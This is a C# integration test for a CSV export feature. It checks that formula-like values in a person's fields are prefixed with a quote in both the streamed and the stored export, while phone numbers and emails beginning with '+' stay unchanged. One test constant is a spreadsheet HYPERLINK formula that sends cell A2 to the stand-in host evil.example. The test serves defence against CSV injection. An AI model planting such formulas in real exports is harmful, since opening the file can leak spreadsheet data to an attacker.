using System.Net;
using System.Text;
using CsvHelper;
using Intent.Data.Runs;
using Intent.Tests.Integration.Api;
using Intent.Tests.Integration.Runs;

namespace Intent.Tests.Integration.Exports;

[Collection(IntegrationGroup.Name)]
public sealed class FormulaSafeCsvTests
{
    private const string Hyperlink = "=HYPERLINK(\"http://evil.example/?q=\"&A2,\"Open\")";

    [Fact]
    public async Task A_person_named_like_a_formula_is_neutralized_in_the_streamed_and_the_stored_CSV_while_the_phone_keeps_its_plus()
    {
        await using var world = await RunsWorld.CreateAsync();
        var audience = await world.AudienceAsync(new { topicIds = new[] { 1, 2, 3 }, minScore = 30 });
        var runId = (await world.QueueAsync(audience)).GetProperty("id").GetGuid();
        Assert.Equal("completed", (await world.WaitForStatusAsync(audience, runId, "completed", "failed")).GetProperty("status").GetString());
        var person = await world.Database.ScalarAsync<long>($"SELECT m.person_id FROM {SnapshotPages.Members()} WHERE m.rank = 1");
        await world.Database.ExecuteAsync($"""
            UPDATE people SET first_name = '{Hyperlink}', headline = '-1+2', company_name = '@SUM(1)', phone = '+1 555',
                              business_email = '+sales@example.com', last_name = 'Plain'
            WHERE person_id = {person}
            """);

        using var streamed = await world.Client.GetAsync(new Uri($"/v1/intent/audiences/{audience}/runs/{runId}/export.csv", UriKind.Relative));
        Assert.Equal(HttpStatusCode.OK, streamed.StatusCode);
        var stored = await Eventually.MatchAsync(
            async () => await world.Client.SendAsync(HttpMethod.Post, $"/v1/intent/audiences/{audience}/runs/{runId}/exports"),
            r => r.Response.StatusCode == HttpStatusCode.OK, TimeSpan.FromSeconds(30), "the export to be stored");
        using var anonymous = world.AnonymousClient();
        using var download = await anonymous.GetAsync(new Uri(stored.Body.Data().GetProperty("downloadUrl").GetString()!, UriKind.Relative));
        Assert.Equal(HttpStatusCode.OK, download.StatusCode);

        foreach (var csv in new[] { await streamed.Content.ReadAsStringAsync(), await download.Content.ReadAsStringAsync() })
        {
            var records = Records(csv);
            var header = records[0];
            var first = records.Single(r => r[0] == "1");
            string Field(string name) => first[Array.IndexOf(header, name)];
            Assert.Equal("'" + Hyperlink, Field("firstName"));
            Assert.Equal("'-1+2", Field("headline"));
            Assert.Equal("'@SUM(1)", Field("company.name"));
            Assert.Equal("Plain", Field("lastName"));
            Assert.Equal("+1 555", Field("phone"));
            Assert.Equal("+sales@example.com", Field("businessEmail"));

            // The neutralized value stays a quoted field.
            Assert.Contains($",\"'{Hyperlink.Replace("\"", "\"\"", StringComparison.Ordinal)}\",", csv, StringComparison.Ordinal);
            Assert.Contains(",\"+1 555\",", csv, StringComparison.Ordinal);
        }
    }

    private static List<string[]> Records(string csv)
    {
        using var reader = CsvReader.Create(new MemoryStream(Encoding.UTF8.GetBytes(csv)), new CsvReaderOptions { HasHeader = false });
        var records = new List<string[]>();
        while (reader.Read())
        {
            records.Add([.. Enumerable.Range(0, reader.FieldCount).Select(reader.GetString)]);
        }

        return records;
    }
}
